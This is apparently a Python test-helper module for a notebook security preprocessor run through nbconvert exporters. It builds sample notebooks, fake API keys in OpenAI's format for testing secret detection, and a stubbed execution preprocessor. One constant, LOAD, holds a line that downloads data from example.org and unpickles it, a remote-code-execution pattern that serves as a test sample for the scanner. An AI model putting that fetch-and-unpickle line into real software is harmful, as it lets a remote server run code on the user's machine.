"""Notebooks that are converted, and exporters that check them."""

from __future__ import annotations

from typing import Any

import nbformat
from nbconvert import HTMLExporter
from nbconvert.preprocessors import ExecutePreprocessor
from traitlets.config import Config

from tests.credentials import fill
from tests.notebooks_in_memory import Json, code, notebook, stream

PREPROCESSOR = "stsec_magic.StsecPreprocessor"

LOAD = "import pickle, requests\npickle.loads(requests.get('https://example.org/x').content)"


def key(seed: object) -> str:
    """A key that is found by its format."""
    return fill("sk-proj-{alnum:48}T3BlbkFJ{alnum:48}", seed)


def book(*cells: Json, metadata: Json | None = None) -> Any:
    """A NotebookNode whose cells have ids."""
    numbered = [{"id": f"cell-{n}", **cell} for n, cell in enumerate(cells, 1)]
    return nbformat.from_dict(notebook(*numbered, metadata=metadata))


def leaky(seed: object = "leaky") -> Any:
    """One key in code and in the output below."""
    return book(code(f'api = "{key(seed)}"', [stream(f"{key(seed)}\n")]))


def exporter(kind: Any = HTMLExporter, executing: Any = None, **traits: Any) -> Any:
    """An exporter with the preprocessor.

    Args:
        kind: Its class.
        executing: A class that takes the place of nbconvert's ExecutePreprocessor, and is on.
        traits: Of the preprocessor; those in ``others`` are configuration of other classes.
    """
    others = traits.pop("others", {})
    config = Config({"Exporter": {"preprocessors": [PREPROCESSOR]}, "StsecPreprocessor": traits, **others})
    made = kind(config=config)
    if executing is not None:
        row = made._preprocessors
        at = next(i for i, each in enumerate(row) if type(each) is ExecutePreprocessor)
        row[at] = executing(parent=made, enabled=True)
    return made


class Executed(ExecutePreprocessor):
    """Notes that it ran, and prints in the first code cell what no source holds."""

    ran = 0
    printed = ""

    def preprocess(self, nb: Any, resources: Any = None, km: Any = None) -> Any:
        type(self).ran += 1
        cell = next(cell for cell in nb.cells if cell.cell_type == "code")
        cell.outputs.append(nbformat.from_dict(stream(self.printed)))
        return nb, resources


def executed(printed: str = "") -> Any:
    """A class of its own, so that its count is."""
    return type("Executed", (Executed,), {"ran": 0, "printed": printed})
